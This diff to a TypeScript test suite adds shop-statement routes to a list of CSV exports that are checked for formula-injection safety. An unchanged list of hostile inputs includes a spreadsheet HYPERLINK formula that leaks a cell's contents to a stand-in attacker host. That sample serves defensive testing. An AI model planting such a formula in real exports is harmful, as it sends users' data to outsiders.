@@ -17,7 +17,16 @@ afterAll(() => w?.close());
 
 const nameOf = (r: RouteDef) => `${r.method} ${r.path}`;
 /** The exports known to answer CSV; the first test fails when another route starts to. */
-const CSV_EXPORTS = ['get /v1/factory/forecast-batches/:id', 'get /v1/statements', 'get /v1/statements/:id/entries', 'get /v1/payout-batches/:id/bank-file'];
+const CSV_EXPORTS = [
+  'get /v1/factory/forecast-batches/:id',
+  'get /v1/statements',
+  'get /v1/statements/:id/entries',
+  'get /v1/payout-batches/:id/bank-file',
+  'get /v1/me/shop/statements',
+  'get /v1/me/shop/statements/:id/lines',
+  'get /v1/shop-statements',
+  'get /v1/shop-statements/:id/lines',
+];
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
@@ -50,11 +59,14 @@ describe('CSV exports', () => {
       shops: w.shops.code,
       'subscription-plans': 'weekly-small',
       c: w.campaigns.openA,
+      'shop-statements': w.shops.statementId,
     };
     const answeringCsv: string[] = [];
     for (const r of w.t.app.routes.filter((route) => route.method === 'get')) {
       const segments = r.path.split('/');
-      const path = segments.map((s, i) => (s.startsWith(':') ? ids[segments[i - 1]] : s)).join('/') + (QUERIES[r.path] ?? '');
+      // A shop owner's own statement, for their view of its lines.
+      const idOf = (segment: string) => (isShopOwnersView(r.path) && segment === 'statements' ? w.shops.statementId : ids[segment]);
+      const path = segments.map((s, i) => (s.startsWith(':') ? idOf(segments[i - 1]) : s)).join('/') + (QUERIES[r.path] ?? '');
       const auth =
         r.access === 'public'
           ? undefined
